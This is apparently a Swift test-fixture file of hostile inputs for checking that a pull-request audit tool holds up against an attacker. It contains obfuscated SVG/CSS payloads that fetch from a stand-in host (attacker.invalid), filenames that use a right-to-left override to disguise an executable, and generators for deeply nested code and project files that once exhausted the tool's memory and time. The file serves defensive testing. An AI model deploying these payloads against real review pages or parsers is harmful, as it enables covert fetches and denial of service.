/// Inputs of issue 29 that an attacker controlling a pull request's files would write, built at
/// test time, for the tests of each point and for one test that runs every command over all of
/// them under a time and memory cap.
public enum HostileInputs {
    /// SVGs whose CSS would make the review page fetch `http://attacker.invalid`, each hidden from
    /// a check on the raw text (point 6). Every one must come out of the sanitiser with no
    /// `attacker.invalid` in it.
    public static let fetchingSVGs: [String] = [
        #"<svg><style>@\69mport "http://attacker.invalid/a.css";</style></svg>"#,
        #"<svg><style>@im\70ort url(http://attacker.invalid/a.css);</style></svg>"#,
        #"<svg><style>@import/**/"http://attacker.invalid/a.css";</style></svg>"#,
        #"<svg><style>.a{fill:u\72l(http://attacker.invalid/x)}</style><rect class="a"/></svg>"#,
        #"<svg><style>.a{fill:\75 \72 \6C (http://attacker.invalid/x)}</style></svg>"#,
        #"<svg><style>.a{background:image-set("http://attacker.invalid/x" 1x)}</style></svg>"#,
        #"<svg><style>.a{background:-webkit-image-set('http://attacker.invalid/x' 1x)}</style></svg>"#,
        #"<svg><style>.a{fill:url(/**/http://attacker.invalid/x)}</style></svg>"#,
        #"<svg><style>&#64;import "http://attacker.invalid/a.css";</style></svg>"#,
        #"<svg><rect fill="&#117;rl(http://attacker.invalid/x)"/></svg>"#,
        #"<svg><rect style="fill:u\72l(http://attacker.invalid/x)"/></svg>"#,
        #"<svg><rect style="fill:url( 'http://attacker.invalid/x' )"/></svg>"#,
        #"<svg><rect style="fill:src(&quot;http://attacker.invalid/x&quot;)"/></svg>"#,
        #"<svg><rect fill="url(data:image/svg+xml,http://attacker.invalid/x)"/></svg>"#,
        #"<svg><image href="&#104;ttp://attacker.invalid/x.png"/></svg>"#,
    ]

    /// Names that read other than they are unless their invisible characters are shown: a
    /// right-to-left override makes `back\u{202E}GNP.exe` read "backexe.PNG".
    public static let invisibleNames: [String] = [
        "back\u{202E}GNP.exe", "a\u{2066}b\u{2069}", "zero\u{200B}width", "bom\u{FEFF}", "mark\u{200F}",
    ]
}

extension HostileInputs {
    /// Conditionals `audit --fix` must not rewrite (point 7): each reads as the layout direction
    /// by its names, but nothing proves what it means. Source and its language.
    public static let unprovenConditionals: [(source: String, objectiveC: Bool)] = [
        (#"let name = isRTL ? "arrow.left" : "arrow.right""#, false),
        (#"let name = isRTLDisabled ? "arrow.right" : "arrow.left""#, false),
        (#"let name = swipe == .rightToLeft ? "arrow.left" : "arrow.right""#, false),
        (#"let name = isRTL == someFlag ? "arrow.left" : "arrow.right""#, false),
        (#"let name = isRTL && animated ? "arrow.left" : "arrow.right""#, false),
        (#"NSString *name = (isRTL == NO) ? @"arrow.right" : @"arrow.left";"#, true),
        (#"NSString *name = self.swipeDirection == SwipeRightToLeft ? @"arrow.left" : @"arrow.right";"#, true),
    ]

    /// Swift whose nesting took `audit` down (point 10): `levels` string interpolations inside
    /// each other (2.96 GB and signal 6 at 10,000), or `levels` array literals (twice the parse
    /// time per level; a stack overflow at 10,000). Each holds one left/right symbol name.
    public static func deepInterpolation(levels: Int) -> String {
        "let s = " + String(repeating: #""\("#, count: levels) + #""arrow.left""#
            + String(repeating: #")""#, count: levels) + "\n"
    }

    public static func deepArrays(levels: Int) -> String {
        "let a = " + String(repeating: "[", count: levels) + #""arrow.left""# + String(repeating: "]", count: levels)
            + "\n"
    }
}

extension HostileInputs {
    /// A `project.pbxproj` whose `count` targets share one resources phase of `count` catalogs
    /// inside `count` nested groups (each reference was once placed again for each target,
    /// through every group: a 101 KB file took 55 s; point 3). With `groupPaths`, each group has
    /// a `path`, so the catalogs' paths are `count` folders deep.
    public static func pbxproj(_ count: Int, groupPaths: Bool) -> String {
        let range = 0..<count
        let path = groupPaths ? " path = g;" : ""
        var text = "{ rootObject = P; objects = {\n"
        text +=
            "P = { isa = PBXProject; mainGroup = G0; targets = (\(range.map { "T\($0)" }.joined(separator: ", "))); };\n"
        for depth in range {
            let children = depth + 1 < count ? "G\(depth + 1)" : range.map { "F\($0)" }.joined(separator: ", ")
            text += "G\(depth) = { isa = PBXGroup; children = (\(children));\(path) sourceTree = \"<group>\"; };\n"
        }
        for index in range {
            text += "F\(index) = { isa = PBXFileReference; path = A\(index).xcassets; sourceTree = \"<group>\"; };\n"
            text += "B\(index) = { isa = PBXBuildFile; fileRef = F\(index); };\n"
            text += "T\(index) = { isa = PBXNativeTarget; name = T\(index); buildPhases = (R); };\n"
        }
        text += "R = { isa = PBXResourcesBuildPhase; files = (\(range.map { "B\($0)" }.joined(separator: ", "))); };\n"
        return text + "}; }\n"
    }
}
